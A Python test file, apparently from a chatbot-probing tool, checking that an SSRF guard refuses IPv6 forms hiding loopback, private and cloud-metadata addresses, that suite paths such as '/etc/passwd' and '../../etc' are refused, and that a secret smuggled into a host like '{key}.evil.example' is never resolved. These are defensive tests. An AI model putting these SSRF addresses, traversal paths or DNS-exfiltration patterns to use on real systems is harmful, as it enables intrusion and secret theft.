"""Issue 32 attacked again by an outsider, for classes its tests did not try: IPv4
addresses carried inside IPv6 ones that the SSRF guard took for public (6to4, Teredo,
site-local), reached through a DNS name (a resolver override, no network); and a job
setting that names files but is typed as text (``suites``), which no path check saw."""

from __future__ import annotations

import asyncio
import ipaddress
from pathlib import Path

import httpx
import pytest

from sparring._policy import ExecutionPolicy, scoped
from sparring._ssrf import AddressRefused, GuardedTransport, NetworkPolicy, _why_not_public
from sparring.errors import ConfigError

EMBEDDED = {
    "6to4 of loopback": "2002:7f00:1::1",
    "6to4 of cloud metadata": "2002:a9fe:a9fe::1",
    "6to4 of a private address": "2002:c0a8:101::1",
    "Teredo to loopback": "2001:0:4136:e378:8000:63bf:80ff:fffe",
    "site-local": "fec0::1",
    "mapped loopback": "::ffff:127.0.0.1",
    "NAT64 of cloud metadata": "64:ff9b::a9fe:a9fe",
    "IPv4-compatible loopback": "::127.0.0.1",
}


def _send(address: str, url: str = "http://bot.example/x") -> httpx.Response:
    """A request to ``url`` whose host name resolves to ``address`` (hosts-file style)."""
    sent: list[httpx.Request] = []

    async def resolver(host: str, port: int) -> list[ipaddress.IPv4Address | ipaddress.IPv6Address]:
        assert host == "bot.example"
        return [ipaddress.ip_address(address)]

    def answer(request: httpx.Request) -> httpx.Response:
        sent.append(request)
        return httpx.Response(200, text="ok")

    async def go() -> httpx.Response:
        inner = httpx.MockTransport(answer)
        transport = GuardedTransport(NetworkPolicy(), inner=inner, resolver=resolver)
        async with httpx.AsyncClient(transport=transport) as client:
            return await client.get(url)

    return asyncio.run(go())


@pytest.mark.parametrize("form", sorted(EMBEDDED))
def test_an_ipv4_address_inside_ipv6_is_judged_by_the_ipv4_address(form: str) -> None:
    with pytest.raises(AddressRefused):
        _send(EMBEDDED[form])
    assert _why_not_public(ipaddress.ip_address(EMBEDDED[form])) is not None


def test_a_public_address_in_the_same_forms_passes() -> None:
    """The control: 6to4 of a public IPv4 address and a public IPv6 address are called."""
    assert _send("2002:808:808::1").text == "ok"
    assert _send("2606:4700:4700::1111").text == "ok"


@pytest.mark.parametrize("suite", ["/etc", "/etc/passwd", "/nonexistent", "../../etc"])
def test_a_suite_outside_the_project_is_refused_before_the_disk_is_asked(
    tmp_path: Path, suite: str
) -> None:
    """``suites`` is text (a built-in name or a path): the typed settings and the loader
    refuse a path outside the roots alike — an existing folder, a file, a missing path
    give the same answer (nothing said of the server's files)."""
    from sparring.adversarial import resolve_suites
    from sparring.runner import find_job

    chatbot = tmp_path / "chatbot.yaml"
    chatbot.write_text("connector: scripted\nparams: {replies: [hi]}\n")
    settings_type = find_job("adversarial-probe").settings_type
    settings = {"chatbot": str(chatbot), "suites": [suite]}
    assert settings_type.from_values(settings).suites == [suite]  # the control: the CLI
    policy = ExecutionPolicy(run_code=False).confined([tmp_path])
    answers = set()
    with scoped(policy):
        with pytest.raises(ConfigError) as typed:
            settings_type.from_values(settings)
        with pytest.raises(ConfigError) as loaded:
            resolve_suites([suite])
    assert [p.key for p in typed.value.problems] == ["suites"]
    for caught in (typed, loaded):
        answers.add(caught.value.problems[0].message.replace(suite, "SUITE"))
    assert answers == {"'SUITE' is outside the project's files: refused here"}


def test_built_in_suites_and_the_project_s_own_stay_available(tmp_path: Path) -> None:
    from sparring.adversarial import builtin_suites, resolve_suites

    name = next(iter(builtin_suites()))
    own = tmp_path / "mine.yaml"
    own.write_text(
        "version: 1\nsuite: mine\ndescription: d\nprobes:\n  - id: p1\n    title: t\n"
        "    category: constraint_change\n    turns: [hello]\n"
        "    oracles: [{kind: must_contain, patterns: [hi]}]\n"
    )
    with scoped(ExecutionPolicy(run_code=False).confined([tmp_path])):
        assert [s.suite for s, _ in resolve_suites([name])] == [name]
        assert [s.suite for s, _ in resolve_suites([str(own)])] == ["mine"]
        assert [s.suite for s, _ in resolve_suites([str(tmp_path)])] == ["mine"]


@pytest.mark.parametrize(
    "url",
    [
        "https://x.{key}.evil.example/v3/detectIntent",  # a host built from a parameter
        "https://{key}.evil.example/",
        "https://bot.example.{key}.evil.example/",
    ],
)
def test_a_secret_inside_a_host_name_is_never_looked_up(url: str) -> None:
    """A secret written into a host name through a parameter that is not a URL (as
    Dialogflow's ``location`` or Lex's ``region`` build their host): the name reaches
    the request lower-cased, and its DNS look-up alone would carry the secret to the
    name's server. Refused before any look-up."""
    from sparring._policy import install_policy

    key = "AbCdEf0123456789XyZ"
    asked: list[str] = []

    async def resolver(host: str, port: int) -> list[ipaddress.IPv4Address | ipaddress.IPv6Address]:
        asked.append(host)
        return [ipaddress.ip_address("93.184.216.34")]

    async def go() -> None:
        inner = httpx.MockTransport(lambda request: httpx.Response(200))
        transport = GuardedTransport(NetworkPolicy(), inner=inner, resolver=resolver)
        async with httpx.AsyncClient(transport=transport) as client:
            await client.get(url.format(key=key))

    policy = ExecutionPolicy(
        run_code=False,
        secrets={"BOT_KEY": key},
        secret_hosts={"BOT_KEY": frozenset({"bot.example"})},
    )
    install_policy(policy)
    try:
        with pytest.raises(AddressRefused, match="BOT_KEY"):
            asyncio.run(go())
    finally:
        install_policy(None)
    assert asked == []
